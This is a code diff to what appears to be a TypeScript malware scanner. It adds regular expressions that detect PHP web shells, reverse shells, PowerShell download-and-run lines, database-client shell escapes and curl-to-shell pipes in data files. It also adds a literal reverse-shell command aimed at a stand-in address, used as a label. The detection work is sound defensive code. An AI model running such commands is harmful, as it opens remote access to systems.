@@ -7,6 +7,19 @@ const SCRIPT =
 /** A file that is nothing but a door: its first statement runs what somebody hid in it or sends later. */
 const DOOR =
   /^\s{0,8}<\?(?:php)?\s{0,8}@?(?:eval|assert|system|passthru|shell_exec|exec)\s{0,4}\(\s{0,4}@?(?:base64_decode|gzinflate|str_rot13|hex2bin|\$_(?:get|post|request|cookie|server)\b)/i
+/** The same for a shell, PowerShell, an engine of scripts or of templates: nothing stands before it. */
+const OTHER_DOOR =
+  /^(?:#![^\n]{1,80}\n)?(?:\s{0,8}(?:#[^\n]{0,160})?\r?\n){0,4}\s{0,8}(?:(?:exec\s{1,4})?(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|bash\s{1,4}-c\s{1,4}["'](?:ba)?sh\s{1,4}-i\s|(?:iex|invoke-expression)\s{0,4}[("' &]{0,4}\(?\s{0,2}new-object\s{1,4}(?:system\.)?net\.webclient\s{0,2}\)\s{0,2}\.\s{0,2}download|new\s{1,4}(?:java\.lang\.)?processbuilder\s{0,2}[([]|(?:java\.lang\.)?runtime\.getruntime\(\)\s{0,2}\.\s{0,2}exec\s{0,2}\(|\{php\}\s{0,8}(?:system|eval|assert|passthru|shell_exec|exec)\b|(?:system|exec)\s{0,2}\(?\s{0,2}["'](?:id|whoami|uname -a|cat \/etc\/passwd|nc -e|bash -i|curl |wget ))/i
+/** Orders to the client of a database that start a shell, in a file of statements. */
+const STATEMENTS = /\.(?:sql|psql|dump)$/i
+const STARTING_STATEMENT =
+  /(?:^|[\r\n])\s{0,4}(?:\\!|system\s)\s{0,4}(?:(?:ba|da|z)?sh\s{1,4}-c|curl\s|wget\s|nc\s|id\b|whoami\b|touch\s{1,4}\/tmp|cat\s{1,4}\/etc)/i
+/** Documents of data, and a door of PHP or a program from nowhere in one. */
+const DATA = /\.(?:json|ya?ml|xml|ini|conf|toml|properties)$/i
+const DOOR_IN_DATA =
+  /<\?(?:php|=)?\s{0,8}@?(?:eval|assert|system|passthru|shell_exec|exec)\s{0,4}\(\s{0,4}(?:base64_decode\s{0,4}\(\s{0,4})?@?\$_(?:get|post|request|cookie|server)\b|\b(?:curl|wget)\s[^\n|;&]{0,100}?(?<![\d.])(?!(?:0|10|127)\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?![\w.-])[^\n|;&]{0,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|da|z)?sh\b/i
+/** What the rules are shown for such a file. */
+const OPENED_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'
 /** Settings of git that name a program, which runs when anybody works in the folder. */
 const GIT_SETTINGS =
   /\[core\][^[]{0,400}\n\s{0,8}(?:sshcommand|gitproxy|fsmonitor)\s{0,4}=\s{0,4}(?!(?:true|false)\b)["']?[\w./~][^\n]{0,80}/i
@@ -98,6 +111,7 @@ export function scriptIn(content: Buffer, name: string): string | undefined {
   if (playlist !== null) return playlist[1]
   const door = DOOR.exec(content.toString('latin1', 0, PLAYLIST_WITHIN))
   if (door !== null) return door[0]
+  if (opensShell(content, name)) return OPENED_SHELL
   const running = runningIn(content, name)
   if (running !== undefined) return running
   if (!isRun && !isObject && !isShown && !isTable) return undefined
@@ -107,6 +121,13 @@ export function scriptIn(content: Buffer, name: string): string | undefined {
   if (isObject) return RUNNING_OBJECT.test(head) ? OBJECT : undefined
   if (isShown && ATTACKING_PAGE.test(head)) return ATTACK_OF_DRAWING
   return isRun ? runBy(head, name, content) : undefined
+}
+
+/** Whether it does nothing but to start a shell or a program, or has a client or a job do that. */
+function opensShell(content: Buffer, name: string): boolean {
+  if (OTHER_DOOR.test(content.toString('latin1', 0, PLAYLIST_WITHIN))) return true
+  if (STATEMENTS.test(name)) return STARTING_STATEMENT.test(content.toString('latin1', 0, HEAD))
+  return DATA.test(name) && DOOR_IN_DATA.test(content.toString('latin1', 0, HEAD))
 }
 
 const LESS = 60
